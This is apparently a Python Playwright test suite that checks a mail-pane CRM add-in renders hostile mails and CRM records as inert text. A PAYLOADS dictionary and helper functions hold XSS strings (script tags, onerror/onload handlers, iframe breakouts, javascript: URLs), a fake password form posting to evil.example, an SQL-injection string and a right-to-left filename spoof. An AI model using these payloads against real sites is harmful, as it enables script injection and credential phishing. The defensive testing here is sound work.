"""Hostile mails and hostile CRM data in the running pane: text stays text, no script runs, nobody else is asked."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Response, expect

from pane.desk import Desk, sample_mailbox
from pane.shift import START, anew, settled, shift
from sandbox_crm.faults import Fault
from standin_outlook.mails import Address, Attachment, Format, Kind, Mail
from workshop.certificate import Certificate

pytestmark = pytest.mark.browser

RUN = "window.__pwned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "elsewhere": '<img src="https://evil.example/x.png"><link rel=stylesheet href="https://evil.example/x.css">',
    "svg": f"<svg/onload={RUN}>",
    "breaks out": f'"><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "attribute": f'x" autofocus onfocus="{RUN}" x=\'',
    "javascript": f"javascript:{RUN}//",
    "template": "${" + RUN + "} {{" + RUN + "}} {subject} {0} %s",
    "comment": f"<!--><script>{RUN}</script>-->",
    "style": "<style>*{display:none!important}</style>",
    "form": "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "entities": f"&lt;img src=x onerror={RUN}&gt; &#x3C;script&#x3E;{RUN}",
    "vtql": "' OR '1'='1'; SELECT * FROM Users; --",
    "direction": "invoice\u202efdp.exe\u2066\u2067 \u200f",
    "prototype": "__proto__",
    "long": "W" * 3000,
    "lines": "one\ntwo\r\nthree\ttab",
}
RECORD_FIELDS = ("firstname", "lastname", "title")
ODD_IDS = [
    "4x39<script>",
    "4x",
    "x39",
    "4X39",
    "4x3 9",
    "4x٣",
    "4x-1",
    "",
    "../4x1",
    "4x39;4x40",
    "constructor",
    "9" * 60,
]
TRAP = """() => {
  const inside = [...document.querySelectorAll("#pane *")];
  const running = inside.filter((one) => /^(script|img|svg|iframe|object|embed|style|link|base|a)$/.test(one.localName)
    || [...one.attributes].some(({ name, value }) => name.startsWith("on") || /^\\s*javascript:/i.test(value)
       && ["href", "src", "action", "formaction", "data"].includes(name)));
  return [window.__pwned, window.top === window ? 0 : running.map((one) => one.outerHTML.slice(0, 200)).join()];
}"""


def hostile(base: Mail, name: str, text: str) -> Mail:
    """A mail with the text in everything that somebody else writes."""
    sender = Address(text, f"{name.replace(' ', '-')}@hostile.example")
    file = Attachment(text, "text/html", Kind.FILE, Format.BASE64, f"<script>{RUN}</script>{text}".encode())
    cloud = Attachment(text, "text/html", Kind.CLOUD, Format.URL, f"javascript:{RUN}".encode())
    return replace(
        base,
        item_id=f"AAMkHostile{name.replace(' ', '')}=",
        subject=text,
        normalized_subject=text,
        from_=sender,
        sender=sender,
        to=(Address(text, text), Address(text, "sales@ourcompany.example")),
        cc=(Address("", text),),
        headers="".join(
            f"{field}: {text}\r\n" for field in ("Subject", "Bcc", "Reply-To", "References", "In-Reply-To", "Date", "X")
        ),
        html=f"<html><body>{text}<p onclick='{RUN}'>text</p><script>{RUN}</script></body></html>",
        text=text,
        internet_message_id=f"<{text}@hostile.example>",
        attachments=(file, cloud),
        raw=b"",  # the whole message of the mail that this one is made of is another mail's
        source=f"hostile-{name}.eml",
    )


@pytest.fixture(scope="module")
def one_pane(browser: Browser, dist: Path, certificate: Certificate) -> Iterator[Desk]:
    """One pane whose mailbox is full of hostile mails."""
    mailbox = sample_mailbox()
    mailbox.add([hostile(mailbox.named(START), name, text) for name, text in PAYLOADS.items()])
    with shift(browser, dist, certificate, mailbox) as at:
        at.open(START)
        anew(at)
        at.sign_in()
        expect(at.suggestion(re.compile("^Mary Smith"))).to_be_visible()
        yield at


@pytest.fixture
def at(one_pane: Desk) -> Iterator[Desk]:
    """The pane, signed in; after the test nothing may have run."""
    yield one_pane
    expect_harmless(one_pane)
    assert not one_pane.wrong, "\n".join(one_pane.wrong)
    assert one_pane.crm.failed_sign_ins("agent") <= 1


def expect_harmless(at: Desk) -> None:
    for frame in at.page.frames:
        pwned, running = frame.evaluate(TRAP)
        assert pwned is None
        assert not running
    assert len(at.context.pages) == 1


def readable(text: str) -> str:
    """How the pane shows a text: one line, no signs that direct others, not too long."""
    line = " ".join(re.sub("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", "", text).split())
    return line[:60]


@pytest.mark.deep("hostile texts in a browser", few=3)
@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_mail_and_a_record_of_that_name(at: Desk, name: str) -> None:
    """The mail is shown, its sender found under a hostile name, the two linked: all of it is text."""
    text = PAYLOADS[name]
    mail = at.mailbox.named(f"hostile-{name}")
    fields = dict.fromkeys(RECORD_FIELDS, text[:100])
    at.crm.new_record("Contacts", owner="agent", email=f"{name.replace(' ', '-')}@hostile.example", **fields)
    at.show(mail)
    expect(at.pane.locator("#mail")).to_contain_text(readable(text))
    box = at.pane.get_by_role("region", name="Suggested records").get_by_role("checkbox").first
    box.check()
    at.pane.locator(".card details").evaluate_all("(found) => found.forEach((one) => (one.open = true))")
    expect_harmless(at)
    at.pane.locator("#link").click()
    expect(at.pane.locator("#receipt")).to_be_visible()
    expect(at.pane.locator("#receipt")).to_contain_text("Linked to")
    assert len(at.crm.messages()) >= 1
    [message] = [one for one in at.crm.messages() if one["mfrom"] == mail.from_.address] if mail.from_ else []
    assert "<script" not in message["description"].lower()


def _of_this_search(response: Response) -> bool:
    return response.url.endswith("/vtews/query") and "anybody" in (response.request.post_data or "")


def searching(at: Desk, data: Any) -> None:
    """Search, with this as the CRM's answer to every query."""
    # The suggestions' own queries must have been answered: this answer is not for them.
    settled(at)
    at.crm.faults.add(Fault("query", "other_data", times=1000, data=data))
    at.pane.get_by_role("searchbox").fill("")
    # The answer before has the same text, and what is asked at leisure is no search: wait for this one's own.
    with at.page.expect_response(_of_this_search):
        at.pane.get_by_role("searchbox").fill("anybody")
    settled(at)
    expect(at.pane.locator("[aria-busy=true]")).to_have_count(0)
    at.crm.faults.clear()


def found(at: Desk) -> Any:
    return at.pane.get_by_role("region", name="Find another record").get_by_role("checkbox")


@pytest.mark.deep("hostile texts in a browser", few=3)
@pytest.mark.parametrize("odd", ODD_IDS, ids=repr)
def test_a_record_whose_id_has_another_shape_is_left_out(at: Desk, odd: str) -> None:
    at.show(START)
    row = {"firstname": "Odd", "lastname": "One", "email": "odd@one.example"}
    searching(at, [{**row, "id": odd}, {**row, "id": "4x39", "firstname": "Even"}])
    expect(found(at).first).to_have_accessible_name(re.compile("Even One"))
    assert not [one for one in found(at).all_inner_texts() if "Odd" in one]
    expect(at.pane.get_by_role("checkbox", name=re.compile("^Odd"))).to_have_count(0)


@pytest.mark.deep("hostile texts in a browser", few=4)
@pytest.mark.parametrize(
    "data",
    [None, 7, "text", {}, [None, 7, "x", [], {}], {"id": "4x39"}, [{"id": {"x": 1}}], [[["4x39"]]], True],
    ids=repr,
)
def test_an_answer_of_another_shape_finds_nothing_or_says_so(at: Desk, data: Any) -> None:
    at.show(START)
    searching(at, data)
    region = at.pane.get_by_role("region", name="Find another record")
    expect(region.locator(".hint, [role=alert]").first).to_be_visible()
    expect(found(at)).to_have_count(0)


@pytest.mark.deep("hostile texts in a browser", few=3)
@pytest.mark.parametrize(
    "text",
    [
        "\ud800",
        "\udfff\ud800",
        "nul\x00nul",
        "\x07\x1b[31m",
        "L" * 1_000_000,
        "<img src=x onerror=window.__pwned=1>" * 999,
    ],
    ids=["half", "halves", "NUL", "control", "1 MB", "many pictures"],
)
def test_names_that_are_hardly_text(at: Desk, text: str) -> None:
    """Halves of characters come as JSON escapes, as a CRM could send them."""
    at.show(START)
    searching(at, [{"id": "4x39", "firstname": text, "lastname": "Name", "email": text}])
    # Each module gave the same record.
    found(at).first.check()
    expect(at.pane.locator("#link")).to_be_enabled()
    wide = at.pane.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert wide <= 0
    found(at).first.uncheck()


@pytest.mark.deep("hostile texts in a browser", few=2)
@pytest.mark.parametrize(
    ("text", "shown"),
    [("\ud800 half", "half"), ("nul\x00", "nul"), ("\udfff", "\ufffd"), ("S" * 1_000_000, "S" * 200)],
    ids=["half", "NUL", "half alone", "1 MB"],
)
def test_mails_that_are_hardly_text(at: Desk, text: str, shown: str) -> None:
    mail = at.mailbox.named("html-only")
    person = {"name": text, "address": text, "recipientType": 3}
    fields = {"subject": text, "normalizedSubject": text, "from": person, "sender": person, "to": [person] * 3}
    at.outlook.alter(mail, {**fields, "internetMessageId": text, "conversationId": text})
    # Headers with another Message-ID would be another mail's.
    at.outlook.fault("headers", "empty", times=0)
    try:
        at.show(mail)
        expect(at.pane.locator("#mail")).to_contain_text(shown)
        expect(at.pane.locator("[aria-busy=true]")).to_have_count(0)
        at.pane.get_by_role("searchbox").fill("Whitfield")
        at.pane.get_by_role("checkbox", name=re.compile("^James Whitfield")).check()
        at.pane.locator("#link").click()
        expect(at.pane.locator("#receipt")).to_contain_text("Linked to James Whitfield")
    finally:
        at.outlook.clear_faults()
        at.outlook.alter(mail, None)
        at.seconds_pass()
        at.show(START)


def test_no_text_becomes_markup_or_script_in_the_page(one_pane: Desk) -> None:
    one_pane.allowed.append("TrustedScriptURL")
    made = one_pane.pane.evaluate(
        """() => {
          const box = document.createElement("div");
          box.innerHTML = "<img src=x onerror=1><b>text</b>";
          const script = document.createElement("script");
          script.text = "window.__pwned = 1";
          document.body.append(script);
          let refused = false;
          try { script.src = "https://evil.example/x.js"; } catch { refused = true; }
          script.remove();
          return [box.children.length, box.textContent, script.text, refused];
        }"""
    )
    assert made == [0, "<img src=x onerror=1><b>text</b>", "", True]
